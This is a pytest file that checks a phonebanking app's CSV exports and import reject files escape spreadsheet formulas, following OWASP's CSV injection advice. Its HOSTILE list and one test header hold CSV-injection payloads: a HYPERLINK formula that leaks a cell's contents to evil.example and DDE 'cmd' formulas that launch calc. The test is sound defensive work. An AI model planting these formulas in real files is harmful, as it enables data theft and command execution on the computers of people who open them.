"""Every CSV Phonebank writes is safe to open in a spreadsheet: hostile names, notes and
voter-file fields are written with a leading `'` (OWASP's CSV injection advice), and the phone
numbers a bulk upload reads stay as they are. Nothing is opened: every cell is checked."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from typer.testing import CliRunner, Result

from bot.cli import app
from storage.clock import FrozenClock
from storage.db import session_scope
from storage.spreadsheet import FORMULA_TRIGGERS, safe_cell
from tests.factories import (
    campaign_config,
    make_attempt,
    make_campaign,
    make_volunteer,
    make_voter,
)
from tests.import_files import VAN_HEADER, voter_row, write_csv

SLUG = "csv-safety"
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&D2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def run(db_url: str, monkeypatch: pytest.MonkeyPatch, *args: str) -> Result:
    monkeypatch.setenv("DATABASE_URL", db_url)
    return CliRunner().invoke(app, list(args))


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_every_cell_is_safe(path: Path) -> list[str]:
    """Every cell either starts with no formula trigger or is a plain number; the cells."""
    cells = [cell for row in cells_of(path) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_TRIGGERS):
            assert cell.lstrip("+-").replace(".", "", 1).isdigit(), (path.name, cell)
    return cells


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+15125550123", "+15125550123"),  # a phone number stays usable
        ("-3", "-3"),
        ("2.5", "2.5"),
        ("+1 512 555 0123", "'+1 512 555 0123"),  # not a plain number: could hide a formula
        ("-", "'-"),
        ("@home", "'@home"),
        ("\t-1", "'\t-1"),
        ("Ana = good", "Ana = good"),
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("", ""),
    ],
)
def test_a_cell_is_neutralized_only_when_a_spreadsheet_would_run_it(
    value: str, written: str
) -> None:
    assert safe_cell(value) == written


def test_every_cell_of_the_results_export_is_safe(
    engine: Engine, db_url: str, clock: FrozenClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with session_scope(engine) as session:
        campaign = make_campaign(session, campaign_config(slug=SLUG))
        for n, hostile in enumerate(HOSTILE):
            volunteer = make_volunteer(session, name=hostile)
            voter = make_voter(
                session,
                campaign,
                external_id=hostile,
                first_name=hostile,
                last_name=hostile,
                phone=f"+1512555{300 + n:04d}",
            )
            answers = {"support": hostile, hostile: "yes"}  # an answer, and a retired question
            make_attempt(session, voter, volunteer, clock=clock, survey=answers, notes=hostile)

    out = tmp_path / "results.csv"
    result = run(db_url, monkeypatch, "export", "results", "--campaign", SLUG, "-o", str(out))

    assert result.exit_code == 0, result.output
    cells = assert_every_cell_is_safe(out)
    for hostile in HOSTILE:  # each hostile value is there, as text: name, ids, survey, notes
        assert cells.count("'" + hostile) >= 6, hostile
    rows = cells_of(out)
    phones = [row[rows[0].index("Phone")] for row in rows[1:]]
    assert phones == [f"+1512555{300 + n:04d}" for n in range(len(HOSTILE))]


def test_every_cell_of_every_rejects_file_is_safe(
    engine: Engine, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with session_scope(engine) as session:
        make_campaign(session, campaign_config(slug=SLUG))
    hostile_header = [*VAN_HEADER, "=cmd|' /C calc'!A0"]
    voter_rows = [
        voter_row(FirstName=hostile, LastName=hostile, Precinct=hostile, CellPhone=hostile)
        for hostile in HOSTILE
    ]
    crlf = "\r\n"  # so that the writer quotes a field holding a carriage return
    voters = write_csv(tmp_path / "voters.csv", voter_rows, hostile_header, newline=crlf)
    dnc_rows = [[hostile, hostile] for hostile in HOSTILE]
    dnc = write_csv(tmp_path / "dnc.csv", dnc_rows, ["Phone", "Reason"], newline=crlf)
    volunteers = write_csv(
        tmp_path / "recruits.csv",
        [[hostile, hostile, "not an email", "English"] for hostile in HOSTILE],
        ["Name", "Phone", "Email", "Languages"],
        newline=crlf,
    )

    for args in (
        ["voters", str(voters), "--campaign", SLUG],
        ["dnc", str(dnc)],
        ["volunteers", str(volunteers)],
    ):
        result = run(db_url, monkeypatch, "import", *args)
        assert result.exit_code == 0, result.output

    for path in (voters, dnc, volunteers):
        rejects = path.with_name(f"{path.stem}.rejects.csv")
        cells = assert_every_cell_is_safe(rejects)
        assert len(cells_of(rejects)) == len(HOSTILE) + 1, rejects.name  # every row rejected
        for hostile in HOSTILE:
            assert "'" + hostile in cells, (rejects.name, hostile)
    assert "'=cmd|' /C calc'!A0" in cells_of(voters.with_name("voters.rejects.csv"))[0]
